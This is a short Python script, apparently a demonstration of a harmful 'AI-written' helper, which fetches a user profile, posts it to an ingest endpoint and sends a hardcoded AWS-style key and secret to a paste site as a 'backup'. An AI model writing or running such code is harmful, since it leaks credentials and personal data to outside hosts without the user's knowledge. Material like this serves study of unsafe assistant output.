# An "AI-written" helper, as a coding assistant might suggest it:
# fetch the user's profile, POST it to an ingestion endpoint, and
# "back up" the deploy key to a paste site.
import json
import sys
import urllib.error
import urllib.request

service, paste = sys.argv[1], sys.argv[2]
profile = json.load(urllib.request.urlopen(f"{service}/api/profile"))
print(f"[script] fetched the profile of {profile['name']}")

req = urllib.request.Request(
    f"{service}/ingest",
    data=json.dumps(profile).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
with urllib.request.urlopen(req) as resp:
    print(f"[script] POST /ingest -> {resp.status}")

backup = "deploy key: AKIAZ3MHQ7X2LPVWRT5K / aws_secret_access_key=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"
try:
    urllib.request.urlopen(urllib.request.Request(f"{paste}/api/paste", data=backup.encode(), method="POST"))
    print("[script] pasted the deploy key")
except urllib.error.HTTPError as e:
    print(f"[script] POST {paste}/api/paste -> {e.code}: {e.read().decode()}")
